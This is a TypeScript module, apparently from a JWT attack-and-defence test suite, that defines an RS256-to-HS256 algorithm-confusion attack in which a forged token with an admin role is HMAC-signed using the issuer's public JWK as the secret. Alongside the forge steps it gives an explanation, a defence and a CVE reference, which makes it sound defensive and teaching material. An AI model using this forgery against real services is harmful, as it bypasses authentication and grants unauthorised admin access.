import { withClaims, withHeader } from '../../service/tokens/parts.ts';
import { signWithText } from '../../service/tokens/sign.ts';
import type { Attack } from '../attack.ts';

export const rsHsJwk: Attack = {
  id: 'rs-hs-jwk',
  name: 'RS256 to HS256 with the key as JSON (JWK)',
  group: 'algorithm',
  setting: 'rs256',
  precondition:
    'The verifier lets the header choose the algorithm and keeps its keys as JSON text, as they were fetched.',
  needs: ['a-token', 'public-key'],
  goal: 'u-9 is let in as admin by a token signed with a line of the published key set.',
  forge: ({ honest, knows }) => {
    const claimed = withClaims(honest, { role: 'admin' });
    const renamed = withHeader(claimed, { alg: 'HS256' });
    return Promise.resolve({
      moves: [
        { say: 'Change one claim: role becomes admin.', token: claimed },
        { say: 'Set alg to HS256.', token: renamed },
        {
          say: 'Sign by HMAC. The secret is the text of the issuer’s JWK, from { to }.',
          token: signWithText(renamed, JSON.stringify(knows.publicJwk)),
        },
      ],
    });
  },
  explanation: [
    'A JWK names its own type: kty says RSA, alg may say RS256. That helps those who read it. A cache or a configuration that keeps the key as text hands on a text, and the type is lost inside.',
    'A guard against PEM does not find one: the text begins with a brace. HMAC takes it like any other secret.',
    'The text has to be the same to the last character. It is published, and there are few ways to write so few members.',
  ],
  defence:
    'Read a JWK into a typed key at once and compare its kty and alg with what you configured.',
  bcp: ['2.1', '3.1'],
  clauses: [],
  cves: [
    {
      id: 'CVE-2026-48526',
      what: 'PyJWT to 2.12.1: the JSON of a public JWK was taken as an HMAC secret',
    },
  ],
  sound: {
    pinned: { outcome: 'refuse', at: 'alg', because: 'HS256 is not the configured RS256.' },
    strict: { outcome: 'refuse', at: 'alg', because: 'HS256 is not the configured RS256.' },
  },
};
